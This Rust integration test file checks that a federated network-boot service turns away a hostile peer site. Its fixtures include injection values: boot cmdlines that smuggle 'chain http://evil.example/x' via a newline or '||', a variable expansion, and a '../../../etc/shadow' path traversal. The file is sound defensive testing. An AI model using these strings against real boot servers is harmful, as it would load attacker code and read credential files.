//! What a hostile site gets, that was invited and keeps no rules: nothing.

use std::time::{Duration, Instant};

use crate::{
    is_local,
    town::{MAC, SIZES, Town, named},
    villain::{Den, grant, offers},
};
use enforcer::metrics::{Counter, PeerCounter};
use mesh_net::CallError;
use mesh_proto::message::peer::{
    Evidence, Grant, GrantedAnswer, Outcome, PeerAsk, PeerReply, Question,
};

const SOON: Duration = Duration::from_secs(10);

type Lie = (&'static str, fn(&mut Grant));

#[tokio::test(flavor = "multi_thread")]
async fn a_peer_that_never_answers_costs_one_deadline_and_explain_says_so() {
    let a = Town::start("site-a").await;
    let (den, _link) = Den::joined(&a).await;
    let begun = Instant::now();
    let script = a.site.script(MAC, "s1").await;
    let took = begun.elapsed();
    assert!(is_local(&script), "{script}");
    assert!((1500..3000).contains(&took.as_millis()), "{took:?}");
    // The second try of the same boot does not ask again.
    let begun = Instant::now();
    assert!(is_local(&a.site.script(MAC, "s1").await));
    assert!(
        begun.elapsed() < Duration::from_millis(1000),
        "{:?}",
        begun.elapsed()
    );
    assert_eq!(den.asked(), 1);
    assert_eq!(
        a.explains().await.1,
        "site-x: did not answer within 1500 ms"
    );
    a.site.store.flush().await.unwrap();
    let view = a.site.view();
    let asked = view
        .events_after(0)
        .find(|e| e.draft.kind == "boot.peers-asked")
        .unwrap();
    assert!(
        asked.draft.text.contains("did not answer"),
        "{}",
        asked.draft.text
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn nonsense_in_a_grant_never_reaches_a_script() {
    let a = Town::start("site-a").await;
    let (den, _link) = Den::joined(&a).await;
    let rows: [Lie; 6] = [
        ("newline", |g| {
            g.cmdline = "quiet\nchain http://evil.example/x".to_owned();
        }),
        ("expansion", |g| g.cmdline = "quiet ${net0/mac}".to_owned()),
        ("operator", |g| {
            g.cmdline = "quiet || chain http://evil.example/x".to_owned();
        }),
        ("path", |g| {
            g.files[0].name = "../../../etc/shadow".to_owned();
        }),
        ("sum", |g| g.files[0].sha256 = "../../secret".to_owned()),
        ("huge", |g| {
            g.answers.push(GrantedAnswer {
                name: "x".to_owned(),
                text: "y".repeat(900 << 10),
            });
        }),
    ];
    for (n, (what, spoil)) in rows.into_iter().enumerate() {
        let mut bad = grant();
        spoil(&mut bad);
        den.says(offers(bad));
        // Another machine each time: what was said of one is remembered for a moment.
        let mut mac = MAC;
        mac.0[4] = u8::try_from(n).unwrap() + 1;
        let link = a.federation();
        assert_eq!(link.links_with(&"site-x".parse().unwrap()), 1, "{what}");
        let named = enforcer::state::peer::NamedMacs {
            site: "site-x".parse().unwrap(),
            macs: [MAC, mac].into(),
        };
        assert!(a.site.apply(enforcer::state::ops::TakeMacs(named)).await);
        let script = a.site.script(mac, "s1").await;
        assert!(
            is_local(&script) && !script.contains("evil"),
            "{what}: {script}"
        );
        assert_eq!(a.site.view().activations().count(), 0, "{what}");
    }
    assert_eq!(den.asked(), 12, "all were asked and claimed");
}

#[tokio::test(flavor = "multi_thread")]
async fn what_was_granted_for_one_machine_is_not_taken_for_another() {
    let a = Town::start("site-a").await;
    let (den, _link) = Den::joined(&a).await;
    den.says(offers(grant()));
    assert!(a.site.script(MAC, "s1").await.contains("kernel "));
    let mut other = MAC;
    other.0[4] = 1;
    let named = enforcer::state::peer::NamedMacs {
        site: "site-x".parse().unwrap(),
        macs: [MAC, other].into(),
    };
    assert!(a.site.apply(enforcer::state::ops::TakeMacs(named)).await);
    let script = a.site.script(other, "s1").await;
    assert!(is_local(&script), "{script}");
    let rejected = Counter::Peer(PeerCounter::Rejected);
    assert_eq!(a.metrics.value(rejected, "grant"), 1);
    assert_eq!(a.site.view().activations().count(), 1);
}

#[tokio::test(flavor = "multi_thread")]
async fn other_bytes_than_granted_are_not_served() {
    let a = Town::start("site-a").await;
    let (den, _link) = Den::joined(&a).await;
    den.says(offers(grant()));
    let script = a.site.script(MAC, "s1").await;
    assert!(script.contains("kernel "), "{script}");
    let path = format!("/boot/n/{}/{}?s=s1", grant().nonce, SIZES[0].0);
    let (status, _) = a.site.get(&path).await;
    assert_eq!(status, 404);
    assert_eq!(
        std::fs::read_dir(a.site.state.path().join("assets/peers"))
            .unwrap()
            .count(),
        0
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_peer_can_neither_forge_nor_replay_nor_ask_in_anothers_name() {
    let (a, b) = crate::towns().await;
    let (_den, link) = Den::joined(&b).await;
    let armed = b.arms("quiet").await;
    named(&a).await;
    // B's machine may boot at A; site-x may ask about none, whoever it says it is.
    for visited in [
        vec![],
        vec!["site-a".to_owned()],
        vec!["site-b".to_owned()],
        vec!["A b".to_owned()],
    ] {
        let question = Question {
            mac: MAC.to_string(),
            arch: None,
            session: Some("x".repeat(10_000)),
            visited,
            hops: 255,
        };
        for ask in [PeerAsk::Peek(question.clone()), PeerAsk::Claim(question)] {
            let answer = link.ask(&ask, SOON).await.unwrap();
            assert!(matches!(answer, PeerReply::Nothing { .. }), "{answer:?}");
        }
    }
    assert!(a.site.script(MAC, "s1").await.contains("kernel "));
    // The nonce is known to who saw the machine's plain HTTP; the word of another site does not count.
    let evidence = |outcome| {
        PeerAsk::Evidence(Evidence {
            nonce: armed.nonce.to_string(),
            outcome,
            reason: "forged\n${x}".to_owned(),
        })
    };
    for outcome in [Outcome::Confirmed, Outcome::Failed, Outcome::Released] {
        let answer = link.ask(&evidence(outcome), SOON).await;
        assert!(matches!(answer, Err(CallError::Refused(_))), "{answer:?}");
    }
    let file = PeerAsk::File {
        nonce: armed.nonce.to_string(),
        index: 0,
        from: 0,
    };
    assert!(matches!(
        link.fetch(&file, SOON).await,
        Err(CallError::Refused(_))
    ));
    let kept = b.site.view().activation(armed.id).unwrap().clone();
    assert!(kept.is_open() && kept.given.as_ref().unwrap().site == a.name);
    // Too many machines, or none that could be: the ones before stay.
    for macs in [
        vec!["52:54:00:00:00:01".to_owned(); 4097],
        vec!["evil".to_owned()],
    ] {
        let answer = link.ask(&PeerAsk::Macs { macs }, SOON).await;
        assert!(answer.is_err(), "{answer:?}");
    }
    assert!(b.site.view().named_by(&"site-x".parse().unwrap()).is_some());
}

#[tokio::test(flavor = "multi_thread")]
async fn a_flood_of_questions_waits_and_others_are_served_meanwhile() {
    let (a, b) = crate::towns().await;
    let (den, link) = Den::joined(&b).await;
    b.arms("quiet").await;
    named(&a).await;
    let question = Question {
        mac: MAC.to_string(),
        arch: None,
        session: None,
        visited: Vec::new(),
        hops: 0,
    };
    let begun = Instant::now();
    let flood = async {
        for _ in 0..120 {
            let _answer = link.ask(&PeerAsk::Peek(question.clone()), SOON).await;
        }
        begun.elapsed()
    };
    let machine = async {
        let script = a.site.script(MAC, "s1").await;
        (script, begun.elapsed())
    };
    let (flooded, (script, took)) = tokio::join!(flood, machine);
    assert!(script.contains("kernel "), "{script}");
    assert!(took < Duration::from_secs(1), "{took:?}");
    assert!(flooded > Duration::from_secs(1), "50 a second: {flooded:?}");
    drop(den);
}
